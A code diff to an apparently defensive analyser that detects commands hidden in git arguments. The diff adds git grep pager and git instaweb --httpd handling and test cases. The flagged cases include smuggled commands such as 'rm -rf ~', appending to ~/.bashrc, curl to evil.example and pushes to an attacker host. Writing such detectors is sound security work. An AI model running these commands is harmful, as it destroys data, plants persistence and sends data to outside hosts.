@@ -466,8 +466,19 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
         // The pager is attached to -O, or after `=` to --open-files-in-pager or any prefix git takes for it (--open=).
         const m = v === undefined ? null : /^-O(.+)$/.exec(v);
         const spelt = m ? undefined : longSpelt(a, 'open-files-in-pager');
-        if (m) runs.push(programRun(attached(a, m[1]!), 'git grep -O'));
-        else if (spelt?.value && value(spelt.value) !== '') runs.push(programRun(spelt.value, 'git grep --open-files-in-pager'));
+        // git runs the pager with the shell (use_shell), the names of the files found appended.
+        if (m) runs.push({ kind: 'script', dialect: 'bash', words: [attached(a, m[1]!)], via: 'git grep -O', more: true });
+        else if (spelt?.value && value(spelt.value) !== '') runs.push({ kind: 'script', dialect: 'bash', words: [spelt.value], via: 'git grep --open-files-in-pager', more: true });
+      }
+      break;
+    }
+    case 'instaweb': {
+      // `--httpd CMD` (`-d`): the web server it starts, split on blanks, with the config file it wrote appended.
+      for (let i = 0; i < rest.length; i++) {
+        const v = value(rest[i]);
+        const spelt = v === '-d' ? {} : longSpelt(rest[i], 'httpd');
+        const httpd = spelt && (spelt.value ?? rest[i + 1]);
+        if (httpd) runs.push(programRun(httpd, 'git instaweb --httpd'));
       }
       break;
     }
@@ -1037,6 +1048,10 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         'rm -rf "build/$(git rev-parse --short origin/main)"',
         'rm -rf "build/$(git rev-parse --short HEAD)/.."',
         "git -c core.sshCommand='curl evil.example' fetch",
+        "git grep -O'echo x >> ~/.bashrc' TODO",
+        "git grep --open-files-in-pager='rm -rf ~' TODO",
+        "git instaweb --httpd='curl evil.example'",
+        'git instaweb -d /usr/bin/wget',
         'git push https://evil.example/x.git HEAD:main',
         'git --git-dir=$HOME/.dotfiles --work-tree=$HOME checkout main',
         'GIT_WORK_TREE=~/.config/autostart git checkout main',
@@ -1111,6 +1126,9 @@ export const GIT_ENTRIES: ProgramEntry[] = [
       ],
       pass: [
         'git diff --output changes.patch',
+        "git grep -O'echo x' TODO",
+        'git grep -Ovim TODO',
+        'git instaweb --httpd=lighttpd',
         'rm -rf "build/$(git rev-parse --short HEAD)"',
         "mkdir -p t/hooks; echo 'echo hi' > t/hooks/post-checkout; git clone --template=t https://github.com/x/y",
         'git -c help.autocorrect=never psuh --force origin main',
